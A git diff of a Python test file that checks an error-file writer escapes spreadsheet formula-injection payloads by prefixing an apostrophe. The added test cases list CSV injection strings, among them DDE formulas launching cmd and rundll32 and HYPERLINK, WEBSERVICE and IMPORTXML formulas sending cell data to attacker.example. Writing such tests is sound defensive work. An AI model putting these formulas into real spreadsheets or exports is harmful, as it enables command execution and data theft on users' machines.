@@ -1,4 +1,4 @@
-"""The error file: what it says, and that no spreadsheet runs anything in it."""
+"""The error file: its content, and that no spreadsheet runs a formula in it."""
 
 import csv
 
@@ -6,7 +6,6 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from tests.workspace.imports.files import SHARED, with_shared_data
 from workspace.imports import error_files
 
 DANGEROUS = [
@@ -32,12 +31,22 @@ def test_should_give_back_every_cell(cell):
     assert error_files.unsafe(error_files.safe(cell)) == cell
 
 
-@with_shared_data
-def test_should_mark_known_attacks():
-    path = SHARED / "bad_input" / "csv_injection" / "csv-payload.txt"
-    for cell in path.read_text("utf-8").splitlines():
-        if cell and not cell.startswith("DDE"):
-            assert error_files.safe(cell).startswith("'")
+@pytest.mark.parametrize(
+    "cell",
+    [
+        "=cmd|' /C calc'!A1",
+        "@SUM(2+2)*cmd|' /C notepad'!A1",
+        "+2+3+cmd|' /C calc'!A1",
+        "-2+3+cmd|' /C calc'!A1",
+        "=rundll32|'shell.dll,Open'!_xlbgnm.A1",
+        '=HYPERLINK("https://attacker.example/?"&A1&B1,"Details")',
+        '=WEBSERVICE(CONCATENATE("https://attacker.example/",A1))',
+        '=IMPORTXML(CONCAT("https://attacker.example/?", A1), "//a")',
+        "\t=cmd|' /C calc'!A1",
+    ],
+)
+def test_should_mark_known_attacks(cell):
+    assert error_files.safe(cell) == "'" + cell
 
 
 def test_should_write_line_reason_and_cells(tmp_path):
